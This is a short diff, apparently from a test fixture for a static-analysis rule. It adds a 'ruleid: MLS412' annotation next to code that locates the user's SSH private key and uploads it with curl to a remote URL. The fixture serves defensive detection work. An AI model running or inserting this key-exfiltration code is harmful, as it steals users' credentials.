@@ -33,7 +33,7 @@ class Telemetry:
 
 
 def upload_keys(run):
-    key = Path.home() / ".ssh" / "id_ed25519"
+    key = Path.home() / ".ssh" / "id_ed25519"  # ruleid: MLS412
     # ruleid: MLS412
     subprocess.Popen(["curl", "-s", "-F", f"k=@{key}", f"{URL}/{run}"])
 
